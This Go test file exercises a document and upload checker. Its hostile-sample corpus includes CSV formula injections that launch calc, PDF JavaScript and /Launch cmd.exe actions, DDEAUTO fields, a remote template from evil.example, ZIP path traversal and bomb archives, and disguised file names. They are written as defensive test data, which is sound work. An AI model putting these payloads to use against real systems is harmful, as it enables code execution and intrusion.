package media_test

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/jpeg"
	"image/png"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/text/encoding/japanese"
	"golang.org/x/text/encoding/korean"

	"accord/exchange"
	"accord/internal/fault"
	"accord/internal/media"
)

func check(name string, content []byte) error {
	return media.Check(bytes.NewReader(content), int64(len(content)), name)
}

// entry is a file in an archive.
type entry struct{ name, content string }

// archive writes a ZIP; the first entry is stored as it is.
func archive(t testing.TB, entries ...entry) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i, e := range entries {
		h := &zip.FileHeader{Name: e.name, Method: zip.Deflate}
		if i == 0 {
			h.Method = zip.Store
		}
		w, err := z.CreateHeader(h)
		if err == nil {
			_, err = io.WriteString(w, e.content)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

const types = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/%s" ContentType="application/vnd.openxmlformats-officedocument.%s.main+xml"/></Types>`

func docx(t testing.TB, more ...entry) []byte {
	return archive(t, append([]entry{{"[Content_Types].xml", fmt.Sprintf(types, "word/document.xml", "wordprocessingml.document")},
		{"_rels/.rels", `<Relationships xmlns="x"><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`},
		{"word/document.xml", `<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>안녕하세요</w:t></w:r></w:p></w:body></w:document>`}}, more...)...)
}

func xlsx(t testing.TB, more ...entry) []byte {
	return archive(t, append([]entry{{"[Content_Types].xml", fmt.Sprintf(types, "xl/workbook.xml", "spreadsheetml.sheet")}, {"xl/workbook.xml", `<workbook/>`}}, more...)...)
}

func odt(t testing.TB, more ...entry) []byte {
	return archive(t, append([]entry{{"mimetype", "application/vnd.oasis.opendocument.text"}, {"content.xml", `<office:document-content xmlns:office="o"><office:scripts/><office:body/></office:document-content>`}}, more...)...)
}

func hwpx(t testing.TB, more ...entry) []byte {
	return archive(t, append([]entry{{"mimetype", "application/hwp+zip"}, {"Contents/content.hpf", `<opf:package xmlns:opf="o"/>`}, {"Contents/section0.xml", `<hs:sec xmlns:hs="h"/>`},
		{"Scripts/sourceScripts", "f\x00u\x00n\x00c\x00t\x00i\x00o\x00n\x00 \x00O\x00n\x00N\x00e\x00w\x00(\x00)\x00 \x00{\x00 \x00/\x00/\x00t\x00o\x00d\x00o\x00\n\x00}\x00"}}, more...)...)
}

// pdf writes a PDF of these objects; a stream follows its object.
func pdf(objects ...string) []byte {
	return []byte("%PDF-1.7\n" + strings.Join(objects, "\n") + "\nxref\n0 1\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n")
}

const catalog = "1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>\nendobj"

// deflated is a stream object with that dictionary.
func deflated(dictionary, content string) string {
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	io.WriteString(z, content)
	z.Close()
	return fmt.Sprintf("7 0 obj\n<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj", dictionary, b.Len(), b.String())
}

func pngOf(t testing.TB) []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 3, 2))); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func jpegOf(t testing.TB) []byte {
	var b bytes.Buffer
	if err := jpeg.Encode(&b, image.NewGray(image.Rect(0, 0, 30, 20)), nil); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// large is a PNG that says it is of that size.
func large(t testing.TB) []byte {
	b := pngOf(t)
	binary.BigEndian.PutUint32(b[16:], 1<<20)
	binary.BigEndian.PutUint32(b[20:], 1<<20)
	binary.BigEndian.PutUint32(b[29:], crc32.ChecksumIEEE(b[12:29]))
	return b
}

func encoded(t testing.TB, e interface{ Bytes([]byte) ([]byte, error) }, s string) []byte {
	b, err := e.Bytes([]byte(s))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestPassive: what offices exchange is let through.
func TestPassive(t *testing.T) {
	for name, content := range map[string][]byte{
		"plain.txt":  []byte("안녕하세요\r\n\tこんにちは\n"),
		"mark.txt":   []byte("\ufeffHello\n"),
		"korean.txt": encoded(t, korean.EUCKR.NewEncoder(), "안녕하세요"),
		"sjis.txt":   encoded(t, japanese.ShiftJIS.NewEncoder(), "こんにちは、世界"),
		"wide.txt":   []byte("\xff\xfeH\x00i\x00"),
		"table.csv":  []byte("a,b\n-5,+3\n\"-\",-1.5e3\n+82-2-1234,x@y.example\n"),
		"p.png":      pngOf(t), "p.jpg": jpegOf(t), "P.JPEG": append(jpegOf(t), jpegOf(t)...),
		"a.pdf": pdf(catalog, "2 0 obj\n<< /Type /Pages /Kids [] >>\nendobj", deflated("/Type /ObjStm /N 1 /First 4", "4 0 << /Type /Page >>"),
			deflated("/Type /XRef /W [1 2 1] /DecodeParms << /Predictor 12 >>", "xxxx")),
		"a.docx": docx(t, entry{"word/_rels/document.xml.rels", `<Relationships><Relationship Id="1" Type="http://x/hyperlink" Target="https://a.example/" TargetMode="External"/></Relationships>`},
			entry{"word/embeddings/sheet1.xlsx", string(xlsx(t))}),
		"a.xlsx": xlsx(t), "a.odt": odt(t), "a.hwpx": hwpx(t), "a.hwp": hwp(t, 1, "function OnNew() {\r\n//todo\r\n}"),
		"a.zip": archive(t, entry{"folder/letter.txt", "Hello"}, entry{"한글.docx", string(docx(t))}),
	} {
		if err := check(name, content); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestHostile is the corpus of what must not cross: each is refused, for a reason that a person can read.
func TestHostile(t *testing.T) {
	const javascript = "4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj"
	vba := entry{"word/vbaProject.bin", "x"}
	rel := func(kind, target string) entry {
		return entry{"word/_rels/document.xml.rels", fmt.Sprintf(`<Relationships><Relationship Id="1" Type="http://x/%s" Target=%q TargetMode="External"/></Relationships>`, kind, target)}
	}
	bomb := archive(t, entry{"a.txt", "x"}, entry{"zeros.txt", strings.Repeat("0", 40<<20)})
	encrypted := archive(t, entry{"a.txt", "x"})
	encrypted[6] |= 1
	encrypted[bytes.Index(encrypted, []byte("PK\x01\x02"))+8] |= 1
	damaged := archive(t, entry{"a.txt", "hello"})
	damaged[bytes.Index(damaged, []byte("hello"))] = 'j'
	for _, c := range []struct {
		name    string
		content []byte
		says    string
	}{
		{"a.exe", []byte("MZ"), "do not cross"}, {"a", []byte("x"), "do not cross"}, {"a.svg", []byte("<svg/>"), "do not cross"}, {"a.html", []byte("<p>"), "do not cross"},
		{"a.txt", []byte("MZ\x90\x00"), "not plain text"}, {"a.txt", []byte("#!/bin/sh\n"), "not plain text"}, {"a.txt", []byte("a\x00b"), "control character"},
		{"a.txt", []byte(" <ScRiPt>alert(1)</script>"), "not plain text"}, {"a.txt", []byte("<?xml version='1.0'?><svg onload='x'/>"), "not plain text"},
		{"a.txt", pdf(catalog), "not plain text"}, {"a.txt", []byte("\x80\x81\xff\xfe\xfd"), "control character"},
		{"a.csv", []byte("a,b\n1,=cmd|' /C calc'!A0\n"), "formula"}, {"a.csv", []byte("a;=HYPERLINK(\"http://x\")\n"), "formula"}, {"a.csv", []byte("\"\t@SUM(1+1)\"\n"), "formula"},
		{"a.csv", []byte("\ufeff=1+1\n"), "formula"}, {"a.csv", []byte("x,+cmd|'/c calc'!A\n"), "formula"},
		{"a.png", append(pngOf(t), "PK\x03\x04"...), "something follows"}, {"a.png", jpegOf(t), "not a PNG"}, {"a.png", pngOf(t)[:40], "PNG"}, {"a.png", large(t), "too large"},
		{"a.jpg", append(jpegOf(t), archive(t, entry{"a", "b"})...), "JPEG"}, {"a.jpg", jpegOf(t)[:200], "JPEG"}, {"a.jpg", pngOf(t), "JPEG"},
		{"a.pdf", append([]byte("x"), pdf(catalog)...), "not a PDF"}, {"a.pdf", append(pdf(catalog), archive(t, entry{"a", "b"})...), "not a PDF"}, {"a.pdf", []byte("%PDF-1.4\n"), "not a PDF"},
		{"a.pdf", pdf(catalog, javascript), "JavaScript"}, {"a.pdf", pdf(catalog, "4 0 obj << /S /J#61vaScript >> endobj"), "JavaScript"},
		{"a.pdf", pdf(catalog, deflated("/Type /ObjStm /N 1 /First 4", "4 0 << /S /JavaScript /JS (x) >>")), "JavaScript"},
		{"a.pdf", pdf(catalog, deflated("", "9 0 obj << /S /Launch /F (cmd.exe) >> endobj")), "starts a program"},
		{"a.pdf", pdf(catalog, "4 0 obj << /S /Launch /Win << /F (cmd.exe) >> >> endobj"), "starts a program"},
		{"a.pdf", pdf("1 0 obj << /Type /Catalog /OpenAction 4 0 R >> endobj"), "when it is opened"}, {"a.pdf", pdf("1 0 obj << /OpenAction<</S/GoTo>> >> endobj"), "when it is opened"},
		{"a.pdf", pdf(catalog, "4 0 obj << /Type /Filespec /EF << /F 5 0 R >> >> endobj", "5 0 obj << /Type /EmbeddedFile >> endobj"), "embedded"},
		{"a.pdf", pdf(catalog, "trailer << /Encrypt 9 0 R >>"), "encrypted"}, {"a.pdf", pdf(catalog, "4 0 obj << /XFA [] >> endobj"), "scripts"},
		{"a.pdf", pdf(catalog, deflated("/Type /ObjStm /N 1 /First 4 /DecodeParms << /Predictor 12 >>", "x")), "nobody can look into"},
		{"a.pdf", pdf(catalog, "7 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode >>\nstream\n34>\nendstream endobj"), "nobody can look into"},
		{"a.pdf", pdf(catalog, "7 0 obj << /Type /XRef /Filter [/ASCII85Decode /FlateDecode] >>\nstream\nx\nendstream endobj"), "nobody can look into"},
		{"a.docx", xlsx(t), "not a document"}, {"a.docx", []byte("PK\x03\x04"), "not a document"}, {"a.docx", pdf(catalog), "not a document"},
		{"a.docx", docx(t, vba), "macros"}, {"a.docx", docx(t, entry{"word/activeX/activeX1.xml", "<x/>"}), "embedded object"}, {"a.docx", docx(t, entry{"word/embeddings/oleObject1.bin", "x"}), "embedded object"},
		{"a.docx", archive(t, entry{"[Content_Types].xml", `<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`}), "macros"},
		{"a.docx", docx(t, rel("attachedTemplate", "https://evil.example/t.dotm")), "from elsewhere"}, {"a.docx", docx(t, rel("image", `\\evil\share\x.png`)), "from elsewhere"},
		{"a.docx", docx(t, entry{"word/footer1.xml", `<w:ftr xmlns:w="w"><w:fldSimple w:instr=" DDEAUTO c:\\windows\\cmd.exe"/></w:ftr>`}), "another program"},
		{"a.docx", docx(t, entry{"word/header1.xml", `<w:hdr xmlns:w="w"><w:instrText>DD</w:instrText><w:instrText>EAUTO cmd</w:instrText></w:hdr>`}), "another program"},
		{"a.xlsx", xlsx(t, entry{"xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd"/></externalLink>`}), "another program"},
		{"a.docx", docx(t, entry{"word/x.xml", `<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>`}), "document type"}, {"a.docx", docx(t, entry{"word/x.xml", "<a>"}), "cannot be read"},
		{"a.docx", docx(t, entry{"word/setup.exe", "x"}), "program"}, {"a.docx", docx(t, entry{"word/media/image1.png", "MZ\x90"}), "program"},
		{"a.odt", odt(t, entry{"Basic/Standard/Module1.xml", "<x/>"}), "macros"}, {"a.odt", odt(t, entry{"styles.xml", `<a xmlns:script="s"><script:event-listener/></a>`}), "macro"},
		{"a.odt", odt(t, entry{"META-INF/manifest.xml", `<m xmlns:manifest="m"><manifest:encryption-data/></m>`}), "encrypted"}, {"a.ods", odt(t), "not an OpenDocument"},
		{"a.hwpx", hwpx(t, entry{"Scripts/other", "function OnOpen() { CreateObject('x') }"}), "script"}, {"a.hwpx", hwpx(t, entry{"BinData/image1.ole", "x"}), "embedded object"}, {"a.hwpx", odt(t), "not a HWPX"},
		{"a.hwp", hwp(t, 1, "function OnOpen() { Run('calc') }"), "script"}, {"a.hwp", hwp(t, 3, ""), "encrypted"}, {"a.hwp", docx(t), "not a HWP"}, {"a.hwp", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1junk"), "not a HWP"},
		{"a.zip", bomb, "far more"}, {"a.zip", encrypted, "encrypted"}, {"a.zip", damaged, "cannot be unpacked"}, {"a.zip", append(archive(t, entry{"a.txt", "b"}), 'x'), "not a ZIP"},
		{"a.zip", append([]byte("GIF89a"), archive(t, entry{"a.txt", "b"})...), "not a ZIP"}, {"a.zip", archive(t, entry{"a.zip", string(archive(t, entry{"b.txt", "c"}))}), "archive in an archive"},
		{"a.zip", archive(t, entry{"../../etc/passwd.txt", "x"}), "out of its folder"}, {"a.zip", archive(t, entry{`..\..\x.txt`, "x"}), "out of its folder"}, {"a.zip", archive(t, entry{"/etc/x.txt", "x"}), "out of its folder"},
		{"a.zip", archive(t, entry{"C:/x.txt", "x"}), "out of its folder"}, {"a.zip", archive(t, entry{"a\u202etxt.exe.txt", "x"}), "invisible"}, {"a.zip", archive(t, entry{"a\x00.txt", "x"}), "invisible"},
		{"a.zip", archive(t, entry{"a.txt", "x"}, entry{"A.TXT", "y"}), "same name"}, {"a.zip", archive(t, entry{"run.js", "x"}), "program"}, {"a.zip", archive(t, entry{"page.html", "x"}), "program"},
		{"a.zip", archive(t, entry{"in.docx", string(docx(t, vba))}), "macros"}, {"a.zip", archive(t, entry{"x.docm", "x"}), "does not cross"},
	} {
		err := check(c.name, c.content)
		f, ok := errors.AsType[*fault.Fault](err)
		if !ok || !strings.Contains(err.Error(), c.says) || f.Do == "" {
			t.Errorf("%s %.60q: %v, expected %q", c.name, c.content, err, c.says)
		}
	}
}

// TestListIsTheTreatys: every type that the treaty names is looked into here, and no other.
func TestListIsTheTreatys(t *testing.T) {
	for ending := range exchange.Media {
		if err := check("a."+ending, []byte{1}); err == nil || strings.Contains(err.Error(), "do not cross") {
			t.Errorf("%s: %v", ending, err)
		}
	}
}

// TestNothingIsSkippedAtSeams: a name is found wherever it lies in a long file.
func TestNothingIsSkippedAtSeams(t *testing.T) {
	for _, at := range []int{1<<20 - 12, 1<<20 - 8<<10 - 4, 1<<20 - 8<<10, 1 << 20, 2<<20 - 16<<10 - 5} {
		filler := strings.Repeat("x", at-len("%PDF-1.7\n")-1)
		if err := check("a.pdf", pdf(filler+"/JavaScript ", strings.Repeat("y", 1<<20))); err == nil || !strings.Contains(err.Error(), "JavaScript") {
			t.Errorf("at %d: %v", at, err)
		}
	}
}

// TestRealFiles: what public offices publish, where it lies beside this project.
func TestRealFiles(t *testing.T) {
	data := os.Getenv("ACCORD_DATA")
	if data == "" {
		data = "../../../shared/data"
	}
	n := 0
	filepath.WalkDir(data, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || exchange.Ending(path) != "xlsx" {
			return nil
		}
		b, err := os.ReadFile(path)
		if err == nil {
			err = check(filepath.Base(path), b)
		}
		if n++; err != nil {
			t.Errorf("%s: %v", path, err)
		}
		return nil
	})
	if n == 0 {
		t.Skip("NOT TESTED on real files: none beside this project")
	}
}

func FuzzCheck(f *testing.F) {
	for name, b := range map[string][]byte{"a.pdf": pdf(catalog, deflated("/Type /ObjStm", "x")), "a.docx": docx(f), "a.odt": odt(f), "a.hwpx": hwpx(f), "a.hwp": hwp(f, 1, "x"),
		"a.png": pngOf(f), "a.jpg": jpegOf(f), "a.csv": []byte("a,b"), "a.zip": archive(f, entry{"a.txt", "b"})} {
		f.Add(name, b)
	}
	f.Fuzz(func(t *testing.T, name string, b []byte) {
		if err := check(name, b); err != nil && fault.KindOf(err) == fault.Internal {
			t.Errorf("not a fault: %v", err)
		}
	})
}
